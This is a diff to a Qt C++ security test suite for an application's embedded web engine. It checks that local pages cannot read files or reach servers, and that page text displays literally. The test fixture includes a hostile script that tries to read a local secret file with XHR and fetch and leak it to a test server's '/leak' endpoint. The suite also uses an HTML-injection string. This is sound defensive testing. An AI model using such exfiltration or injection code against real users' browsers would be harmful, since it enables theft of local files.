@@ -83,51 +83,44 @@ bool ShowsLiterally(const QLabel* label) {
 
 class TestEngineSecurity : public QObject {
     Q_OBJECT
-
-private slots:
-    void initTestCase() { QStandardPaths::setTestModeEnabled(true); }
-    void init() {
-        QVERIFY2(m_server.Running(), qPrintable(m_server.ErrorText()));
-        m_server.ResetStats();
-    }
-    void cleanup() { SetPageMsgBoxFunction(nullptr); }
-    void localPageReadsNoFileAndReachesNoServer_data();
-    void localPageReadsNoFileAndReachesNoServer();
-    void startSiteAndLinksBetweenLocalAndWeb_data() { localPageReadsNoFileAndReachesNoServer_data(); }
-    void startSiteAndLinksBetweenLocalAndWeb();
-    void otherProgramsLinkAsksFirst();
-    void serverAndPageTextShowsLiterally();
-
-private:
     TTestServer m_server;
     QTemporaryDir m_folder;
+
+private slots:
+    void initTestCase() {
+        QStandardPaths::setTestModeEnabled(true);
+        QVERIFY2(m_server.Running(), qPrintable(m_server.ErrorText()));
+    }
+    void cleanup() { SetPageMsgBoxFunction(nullptr); }
+    void localPages_data() {
+        QTest::addColumn<bool>("chromium");
+        QTest::newRow("chromium") << true;
+        QTest::newRow("compatibility engine") << false;
+    }
+    void localPages();
+    void otherProgramsLinkAsksFirst();
+    void serverAndPageTextShowsLiterally();
 };
 
-void TestEngineSecurity::localPageReadsNoFileAndReachesNoServer_data() {
-    QTest::addColumn<bool>("chromium");
-    QTest::newRow("chromium") << true;
-    QTest::newRow("compatibility engine") << false;
-}
-
-void TestEngineSecurity::localPageReadsNoFileAndReachesNoServer() {
+void TestEngineSecurity::localPages() {
     QFETCH(bool, chromium);
+    m_server.ResetStats();
     WriteFile(m_folder, "secret.txt", "SECRET-TEXT");
-    // Each attempt reports in the title; what was read goes on to the server.
+    // A hostile local page: each attempt reports in the title, what was read goes on to the server.
     const QString hostile = WriteFile(m_folder, "hostile.html", QByteArray(R"(<title>start</title><script>
 var server = 'http://127.0.0.1:PORT', results = [];
-function report(what, text) {
-  results.push(what + ':' + text); if (text) new Image().src = server + '/leak?' + encodeURIComponent(text);
+function report(text) {
+  results.push(text); if (text) new Image().src = server + '/leak?' + encodeURIComponent(text);
   if (results.length == 4) document.title = 'done ' + results.join(' ');
 }
 function xhr(url) {
   var x = new XMLHttpRequest(); x.open('GET', url, true);
-  x.onload = function() { report('xhr', x.responseText); }; x.onerror = function() { report('xhr', ''); };
-  try { x.send(); } catch (e) { report('xhr', ''); }
+  x.onload = function() { report(x.responseText); }; x.onerror = function() { report(''); };
+  try { x.send(); } catch (e) { report(''); }
 }
 function get(url) {
-  if (!window.fetch) return report('fetch', '');
-  fetch(url).then(function(r) { return r.text(); }).then(function(t) { report('fetch', t); },
-                                                         function() { report('fetch', ''); });
+  if (!window.fetch) return report('');
+  fetch(url).then(function(r) { return r.text(); }).then(report, function() { report(''); });
 }
 xhr('secret.txt'); xhr(server + '/xhr'); get('secret.txt'); get(server + '/fetch');
 </script>)").replace("PORT", QByteArray::number(m_server.Port())));
@@ -137,14 +130,9 @@ xhr('secret.txt'); xhr(server + '/xhr'); get('secret.txt'); get(server + '/fetch
     QTRY_VERIFY_WITH_TIMEOUT(page.Title().startsWith(QLatin1String("done")), LoadTimeout);
     QVERIFY2(!page.Title().contains(QLatin1String("SECRET")), qPrintable(page.Title()));
     QVERIFY2(m_server.Stats().isEmpty(), qPrintable(QStringList(m_server.Stats().keys()).join(' ')));
-}
 
-void TestEngineSecurity::startSiteAndLinksBetweenLocalAndWeb() {
-    QFETCH(bool, chromium);
-    TEnginePage page(chromium);
-    QVERIFY(page.Ok());
+    // The bundled start site keeps its stylesheet's page background (not the engine's white).
     page->Navigate(QUrl::fromLocalFile(QStringLiteral(QUELLON_SOURCE_DIR "/res/site/index.html")).toString());
-    // The stylesheet's page background, not the engine's white.
     QTRY_COMPARE_WITH_TIMEOUT(page->Widget()->grab().toImage().pixelColor(5, 5), QColor(0xf4, 0xf6, 0xfa),
                               LoadTimeout);
 
@@ -194,10 +182,12 @@ void TestEngineSecurity::serverAndPageTextShowsLiterally() {
 
     TTestDb data;
     auto window = OpenWindow(data.Db());
-    auto* status = window->findChild<QLabel*>(QStringLiteral("LabelStatus"));
-    QVERIFY(status);
-    status->setText(QStringLiteral("<img src='x'><b>page text</b>"));
-    QVERIFY(ShowsLiterally(status));
+    for (const char* name : {"LabelStatus", "LabelAd"}) {
+        auto* status = window->findChild<QLabel*>(QLatin1String(name));
+        QVERIFY(status);
+        status->setText(QStringLiteral("<img src='x'><b>page text</b>"));
+        QVERIFY2(ShowsLiterally(status), name);
+    }
     CloseMainWindows();
 }
 
